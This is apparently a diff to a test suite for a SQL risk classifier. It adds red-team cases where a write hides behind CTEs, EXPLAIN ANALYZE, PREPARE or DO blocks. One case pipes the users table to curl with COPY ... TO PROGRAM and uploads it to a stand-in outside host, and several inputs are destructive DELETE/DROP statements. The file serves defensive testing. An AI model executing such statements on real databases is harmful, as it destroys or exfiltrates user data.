@@ -39,6 +39,14 @@ describe("SQL in arguments", () => {
     ["GRANT SELECT ON orders TO analyst", "write", false, "`GRANT`"],
     ["WITH old AS (SELECT id FROM orders) DELETE FROM orders USING old", "write", true, "`DELETE FROM`"],
     ["SELECT 1; DROP TABLE users", "write", true, "`DROP TABLE`"],
+    // Statements whose write is not their leading verb (red team, round 4).
+    ["WITH gone AS (DELETE FROM users WHERE active = false RETURNING id) SELECT count(*) FROM gone", "write", true, "`DELETE FROM`"],
+    ["(DELETE FROM users)", "write", true, "`DELETE FROM`"],
+    ["EXPLAIN ANALYZE DELETE FROM users", "write", true, "`DELETE FROM`"],
+    ["PREPARE purge AS DELETE FROM users WHERE id = $1; EXECUTE purge(7)", "write", true, "`DELETE FROM`"],
+    ["SELECT * INTO users_backup FROM users", "write", false, "`SELECT INTO`"],
+    ["COPY users TO PROGRAM 'curl -T - https://x.example'", "write", true, "`COPY ... TO PROGRAM`"],
+    ["DO $$ BEGIN DELETE FROM users; END $$", "write", false, "`DO` block"],
   ])("%s", (sql, risk, destructive, what) => {
     const r = runSql(sql);
     expect([r.risk, r.destructive]).toEqual([risk, destructive]);
@@ -53,6 +61,8 @@ describe("SQL in arguments", () => {
     "-- DELETE FROM orders\nSELECT 1",
     "EXPLAIN DELETE FROM orders",
     'SELECT "delete" FROM t',
+    "WITH recent AS (SELECT id FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
+    "SELECT (SELECT max(id) FROM orders) AS top",
   ])("reads: %s", (sql) => {
     expect(runSql(sql).risk).toBe("read");
   });
